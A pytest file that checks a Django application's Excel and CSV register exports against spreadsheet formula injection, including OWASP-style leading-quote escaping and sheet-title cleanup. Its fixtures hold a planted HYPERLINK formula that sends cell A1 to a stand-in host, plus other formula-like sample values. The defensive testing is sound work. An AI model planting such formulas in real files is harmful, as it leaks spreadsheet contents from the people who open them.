"""The Excel export: what Excel shows is what the list shows, and nothing runs."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.db import models
from openpyxl import load_workbook

from amelio.context.models import ContextIssue
from amelio.core import services
from amelio.core.exports import csv_safe
from amelio.core.registry import registry
from amelio.core.reports import sheet_title as _sheet_title
from tests.samples import make_record


def test_export_keeps_text_as_text_and_dates_as_dates(client_for, org, coordinator):
    services.record_create(
        record=ContextIssue(
            title='=HYPERLINK("http://example.com","click")',
            org_unit=org["a"],
            origin="external",
            swot="threat",
            pestel="legal",
            impact=3,
            climate_related=True,
            review_date=dt.date(2027, 3, 31),
        ),
        user=coordinator,
    )
    response = client_for(coordinator).get("/context/issues/export.xlsx", HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    header = [c.value for c in sheet[1]]
    row = dict(zip(header, sheet[2], strict=True))
    assert row["Title"].value == '=HYPERLINK("http://example.com","click")'
    assert row["Title"].data_type == "s"  # a string, never a formula
    assert row["SWOT quadrant"].value == "Threat"  # the label, in the language of the page
    assert row["Review date"].value == dt.datetime(2027, 3, 31)
    assert row["Review date"].number_format == "dd/mm/yyyy"
    assert sheet.freeze_panes == "A2"
    assert sheet.max_row == 2


def test_sheet_titles_are_names_excel_accepts():
    assert _sheet_title("Risks: site [A] / B?") == "Risks- site -A- - B-"
    assert _sheet_title("x" * 40) == "x" * 31
    assert _sheet_title("") == "Export"


def _text_field(reg) -> str | None:
    """A free-text column of the register's export (no choices, not a relation)."""
    for name in reg.export_fields:
        field = reg.field(name)
        if (
            name != "reference"
            and isinstance(field, models.CharField | models.TextField)
            and not field.choices
        ):
            return name
    return None


WITH_TEXT = [reg for reg in registry if _text_field(reg)]
PLANTED = '=HYPERLINK("http://example.com/?leak="&A1,"click")'


@pytest.mark.parametrize("reg", WITH_TEXT, ids=[r.key for r in WITH_TEXT])
def test_csv_export_never_carries_a_formula(reg, client_for, org, coordinator):
    """A text typed as a formula (through the public report form, say) comes out of every
    register's CSV export as text: OWASP's leading quote."""
    name = _text_field(reg)
    # Cut to the field's length (PostgreSQL refuses a longer text): it still starts with "=".
    planted = PLANTED[: reg.field(name).max_length or len(PLANTED)]
    record = make_record(reg, org["a"], coordinator)
    reg.model.objects.filter(pk=record.pk).update(**{name: planted})
    response = client_for(coordinator).get(reg.url("export", "csv"))
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    _header, row = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert row[reg.export_fields.index(name)] == "'" + planted


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+33 6 12 34 56 78", "'+33 6 12 34 56 78"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("Plain text", "Plain text"),
        ("a=b", "a=b"),
        (-5, -5),
        (-2.5, -2.5),
        (None, None),
    ],
)
def test_only_text_that_starts_like_a_formula_is_quoted(value, written):
    """Numbers (a negative quantity) stay numbers; text that starts like a formula gets the
    quote, even when it reads as a negative number."""
    assert csv_safe(value) == written


def test_the_legal_waste_register_csv_never_carries_a_formula(client_for, org, coordinator):
    from amelio.environment.models import WasteMovement

    register = registry.for_model(WasteMovement)
    movement = make_record(register, org["a"], coordinator)
    movement.stream.__class__.objects.filter(pk=movement.stream_id).update(name=PLANTED)
    response = client_for(coordinator).get(
        "/environment/register/legal/",
        {"format": "csv", "start": "2026-01-01", "end": "2026-12-31"},
    )
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert len(rows) == 2
    assert "'" + PLANTED in rows[1]
    assert PLANTED not in rows[1]
